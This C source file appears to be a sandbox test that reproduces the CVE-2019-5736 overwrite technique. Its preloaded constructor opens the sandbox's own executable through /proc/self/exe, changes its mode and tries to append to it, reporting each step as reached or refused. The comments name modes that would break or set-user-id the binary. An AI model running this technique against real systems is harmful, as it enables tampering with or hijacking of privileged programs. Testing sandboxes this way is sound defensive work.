// A library that a payload has loaded into sbx itself, run inside by "#!/proc/self/exe" (CVE-2019-5736): opens the
// executable, lets a shell take its place in this process, since a running program is busy, and writes through the
// descriptor.
#include <sys/stat.h>

#include "attack.h"

__attribute__((constructor)) static void attack(void) {
  char name[4096];
  const ssize_t length = readlink("/proc/self/exe", name, sizeof name - 1);
  if (length < 0) return;
  name[length] = '\0';
  // Loaded into a shell on the way: not what it waits for.
  if (!strstr(name, "sbx")) return;
  unsetenv("LD_PRELOAD");
  const int fd = open("/proc/self/exe", O_RDONLY);
  if (fd < 0) {
    refused("preload-open");
    _exit(0);
  }
  reached("preload-open", "%s", name);
  // Harmless here; a mode of 0 would take sbx away from everybody, and 04755 would make it set-user-id.
  if (fchmod(fd, 0755 | S_ISVTX) == 0) reached("preload-mode", "1755");
  else refused("preload-mode");
  char script[256];
  snprintf(script, sizeof script, "sleep 0.3; if printf OVERWRITTEN >> /proc/self/fd/%d; then echo reached preload-write 11; else echo refused preload-write EACCES; fi", fd);
  execl("/bin/sh", "sh", "-c", script, (char *)NULL);
  _exit(1);
}
